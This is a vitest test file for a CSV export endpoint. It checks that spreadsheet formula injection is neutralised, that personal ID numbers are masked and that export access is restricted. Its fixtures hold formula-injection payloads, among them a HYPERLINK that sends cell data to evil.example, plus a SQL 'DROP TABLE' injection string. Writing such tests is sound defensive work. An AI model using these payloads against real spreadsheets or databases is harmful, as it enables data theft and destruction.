import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv as readCsv } from '../../adapters/industry-csv/csv.ts';
import { freshPostgres, startHarness, type Harness } from '../helpers.ts';
import { body, penalty } from '../records.ts';

/** Exported data (the deliveries CSV for spreadsheets) must not carry live formulas or personal ID numbers. */
const parseCsv = (text: string, _opts?: unknown): string[][] => readCsv(text, 0x2c).map((r) => r.cells);

describe('CSV export: formula injection neutralised, IDs masked, viewer scope', () => {
  let h: Harness;
  let drop: () => Promise<void>;
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
  beforeAll(async () => {
    const pg = await freshPostgres();
    drop = pg.drop;
    h = await startHarness(pg.db);
    const records = FORMULAS.map((name, i) => penalty(i, { subject: { name }, data: { decisionNo: `灌应急罚〔2026〕X${i}号` } }));
    records.push(penalty(9, { subject: { name: '张伟', category: 'NATURAL_PERSON', uscc: undefined, legalRep: undefined, idType: '身份证', idNo: '11010519491231002X' }, data: { decisionNo: `'); DROP TABLE deliveries; --` } }));
    const res = await h.post(body(records));
    expect(res.json.accepted).toBe(records.length);
    await h.waitDelivered(records.length);
  });
  afterAll(async () => {
    await h?.close();
    await drop?.();
  });
  const get = (path: string, token: string) => fetch(`${h.gateway.url}${path}`, { headers: { authorization: `Bearer ${token}` } });

  it('every cell that would start a formula is prefixed so spreadsheets show it as text', async () => {
    const res = await get('/v1/deliveries.csv', 'demo-viewer-token');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A UTF-8 BOM, so Excel reads the Chinese as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const rows = parseCsv(text) as string[][];
    expect(rows[0]).toContain('行政相对人名称');
    const names = rows.slice(1).map((r) => r[9]!);
    for (const f of FORMULAS) expect(names).toContain(`'${f}`);
    for (const cell of rows.slice(1).flat()) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
    // SQL-shaped text is just text, stored and exported verbatim; the table is still there.
    expect(rows.slice(1).map((r) => r[11])).toContain(`'); DROP TABLE deliveries; --`);
    expect((await h.gateway.db.query('SELECT count(*)::int AS n FROM deliveries')).rows[0]).toEqual({ n: 6 });
  });

  it('personal ID numbers never appear; the filter applies; a department key cannot export', async () => {
    const text = await (await get('/v1/deliveries.csv?q=' + encodeURIComponent('张伟'), 'demo-viewer-token')).text();
    expect(text).not.toContain('11010519491231002X');
    const rows = parseCsv(text) as string[][];
    expect(rows).toHaveLength(2);
    expect((await get('/v1/deliveries.csv', 'demo-canonical-key')).status).toBe(401);
    expect((await get('/v1/deliveries.csv', 'no-token')).status).toBe(401);
  });
});
